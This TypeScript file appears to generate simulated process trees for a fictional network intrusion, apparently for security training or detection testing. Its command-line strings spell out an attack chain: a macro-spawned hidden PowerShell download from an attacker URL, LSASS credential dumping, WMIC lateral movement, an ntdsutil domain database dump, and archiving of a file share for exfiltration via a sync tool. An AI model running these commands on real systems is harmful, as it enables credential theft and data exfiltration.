import type { Clock } from '../clock.ts';
import { hashes } from '../stable-id.ts';
import { files, type KnownFile, payloadUrl } from './attacker.ts';
import { bkp01, type Device, dc01, engWs03, finWs07, finWs11, fs01, hlpWs02 } from './devices.ts';
import { backupService, jana, mira, noor, type Person, tomas, viktor } from './people.ts';

export type RunningProcess = {
  device: Device;
  pid: number;
  started: Date;
  image: KnownFile;
  commandLine: string;
  parent: RunningProcess | null;
  user: Person;
};

/** A program that comes with Windows or Office; its path is its folder. */
export function systemFile(name: string, path = 'C:\\Windows\\System32'): KnownFile {
  return { name, path, size: 91_648, ...hashes(`system file ${name}`) };
}

/** The attack's process trees, one for each machine, parents before children. */
export function processTrees(at: Clock) {
  const run = (
    device: Device,
    user: Person,
    parent: RunningProcess | null,
    pid: number,
    started: string,
    image: KnownFile,
    commandLine: string,
  ): RunningProcess => ({ device, user, parent, pid, started: at(started), image, commandLine });
  const powershell = systemFile('powershell.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0');
  const wmiHost = systemFile('WmiPrvSE.exe', 'C:\\Windows\\System32\\wbem');
  const services = systemFile('services.exe');
  const loader = `${files.loader.path}\\${files.loader.name}`;

  const explorer = run(
    finWs07,
    mira,
    null,
    4312,
    '1 08:02:40',
    systemFile('explorer.exe', 'C:\\Windows'),
    'C:\\Windows\\explorer.exe',
  );
  const word = run(
    finWs07,
    mira,
    explorer,
    7120,
    '1 09:41:02',
    systemFile('WINWORD.EXE', 'C:\\Program Files\\Microsoft Office\\root\\Office16'),
    `WINWORD.EXE /n "${files.document.path}\\${files.document.name}"`,
  );
  const shell = run(
    finWs07,
    mira,
    word,
    7388,
    '1 09:41:31',
    systemFile('cmd.exe'),
    'cmd.exe /c powershell -w hidden -enc SQBFAFgA',
  );
  const script = run(
    finWs07,
    mira,
    shell,
    7412,
    '1 09:41:32',
    powershell,
    `powershell -w hidden Invoke-WebRequest ${payloadUrl} -OutFile ${loader}`,
  );
  const beacon = run(finWs07, mira, script, 7596, '1 09:42:10', files.loader, `${loader} -k network`);
  const dumper = run(
    finWs07,
    mira,
    beacon,
    9044,
    '1 13:52:18',
    files.dumper,
    'tlsdiag.exe -p lsass -o c:\\programdata\\pdfhost\\d.bin',
  );
  const discovery = run(
    finWs07,
    mira,
    beacon,
    8860,
    '1 13:31:05',
    systemFile('cmd.exe'),
    'cmd.exe /c nltest /dclist:corp & net group "Domain Admins" /domain',
  );
  const remote = run(
    finWs07,
    jana,
    beacon,
    9310,
    '1 15:38:40',
    systemFile('wmic.exe', 'C:\\Windows\\System32\\wbem'),
    `wmic /node:${hlpWs02.name} process call create "${loader}"`,
  );

  const helpWmi = run(hlpWs02, jana, null, 3044, '1 15:38:44', wmiHost, 'wmiprvse.exe -secured -Embedding');
  const helpBeacon = run(hlpWs02, jana, helpWmi, 5220, '1 15:38:45', files.loader, `${loader} -k network`);
  const helpDumper = run(
    hlpWs02,
    jana,
    helpBeacon,
    5611,
    '1 16:20:09',
    files.dumper,
    'tlsdiag.exe -p lsass -o c:\\programdata\\pdfhost\\h.bin',
  );

  const controllerServices = run(finWs11, tomas, null, 712, '1 07:55:10', services, 'services.exe');
  const controllerBeacon = run(
    finWs11,
    tomas,
    controllerServices,
    6108,
    '1 16:02:31',
    files.loader,
    `${loader} -k network`,
  );

  const fileServerServices = run(fs01, jana, null, 688, '-4 03:10:00', services, 'services.exe');
  const fileServerService = run(
    fs01,
    jana,
    fileServerServices,
    4980,
    '1 17:05:20',
    files.service,
    'C:\\Windows\\Temp\\wbsvc.exe -svc',
  );
  const backupServices = run(bkp01, backupService, null, 690, '-4 03:12:00', services, 'services.exe');
  const backupServiceShell = run(
    bkp01,
    backupService,
    backupServices,
    3172,
    '1 18:10:44',
    files.service,
    'C:\\Windows\\Temp\\wbsvc.exe -svc',
  );
  const backupDumper = run(
    bkp01,
    backupService,
    backupServiceShell,
    3390,
    '1 18:31:02',
    files.dumper,
    'tlsdiag.exe -p lsass -o c:\\windows\\temp\\b.bin',
  );

  const controllerWmi = run(dc01, viktor, null, 2216, '2 08:22:16', wmiHost, 'wmiprvse.exe -secured -Embedding');
  const ntds = run(
    dc01,
    viktor,
    controllerWmi,
    5512,
    '2 08:24:02',
    systemFile('ntdsutil.exe'),
    'ntdsutil "ac i ntds" "ifm" "create full c:\\windows\\temp\\n" q q',
  );

  const designWmi = run(engWs03, noor, null, 2980, '2 10:41:12', wmiHost, 'wmiprvse.exe -secured -Embedding');
  const designBeacon = run(engWs03, noor, designWmi, 6644, '2 10:41:14', files.loader, `${loader} -k network`);
  const archiver = run(
    engWs03,
    noor,
    designBeacon,
    7001,
    '2 13:05:30',
    systemFile('7z.exe', 'C:\\Program Files\\7-Zip'),
    `7z.exe a -p -v700m ${files.archive.path}\\${files.archive.name} \\\\${fs01.name}\\drawings`,
  );
  const sync = run(
    engWs03,
    noor,
    designBeacon,
    7290,
    '2 14:20:11',
    files.sync,
    'hlsync.exe copy c:\\programdata\\hlsync drop: --transfers 8',
  );

  return {
    word,
    shell,
    script,
    beacon,
    discovery,
    dumper,
    remote,
    helpBeacon,
    helpDumper,
    controllerBeacon,
    fileServerService,
    backupServiceShell,
    backupDumper,
    ntds,
    designBeacon,
    archiver,
    sync,
  };
}
